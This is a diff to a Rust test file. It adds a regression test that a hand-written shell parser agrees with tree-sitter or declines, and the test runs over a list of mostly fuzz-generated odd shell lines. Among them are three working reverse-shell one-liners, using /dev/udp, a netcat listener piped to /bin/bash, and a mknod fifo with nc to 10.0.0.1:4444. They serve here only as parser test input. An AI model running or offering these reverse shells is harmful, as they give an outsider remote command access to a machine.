@@ -184,6 +184,46 @@ fn hand_parser_declines_what_it_does_not_hold() {
     }
 }
 
+/// Lines where the hand parser once built a tree tree-sitter does not
+/// (found by the generated lines below): each must now agree or decline.
+#[test]
+fn hand_parser_agrees_where_it_once_differed() {
+    let lines = [
+        "ls ls; wh#ile < ./x",
+        "\"$z  X=1  \"d $x\" \" ./x  $z  ls",
+        "echo \"$x $y\" \" \"",
+        "ls'q s'lslsfor'q s'$z-la",
+        "ls'q s'lslsfor$z$z-la",
+        "ls&>lsY=$(a)ls$1--o=v",
+        "ls'q s'$1",
+        "-1\\\tls\tls",
+        "d\n\\one",
+        "while'q s'",
+        "Y=$(a=)",
+        "a$(b)\\c\tY=$(a)\t-1",
+        ">\\  'q s'  ./x",
+        "2>&1\tls\t$zé\t-1",
+        "- -o=v  -la",
+        "ls == $z",
+        "~ ./x --o=v ls ls | ./x ls |é || $z",
+        "a | b | c && d",
+        "Z= X=1\n ls",
+        "X=1 Y=2\nls",
+        "echo \"$(~|rm|~ >f)\"",
+        "if ~; then ~; fi && ~|rm | rm\nrm > f",
+        "echo \"$(~ && rm >f|ls | rm > f)\"",
+        "(a |& b |& c ls\nA= ./x ls >f)",
+        "rm >f|A=$(b) <'q s' a.sh ''",
+        "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
+        "nc -l 9001 0</tmp/p | /bin/bash 1>/tmp/p",
+        "mknod /tmp/b p && /bin/sh 0</tmp/b | nc 10.0.0.1 4444 1>/tmp/b",
+        "x=1 > f",
+    ];
+    for line in lines {
+        assert!(agrees(line).is_ok(), "{}", agrees(line).unwrap_err());
+    }
+}
+
 /// Words the generated lines are built from.
 const WORDS: &[&str] = &[
     "ls",
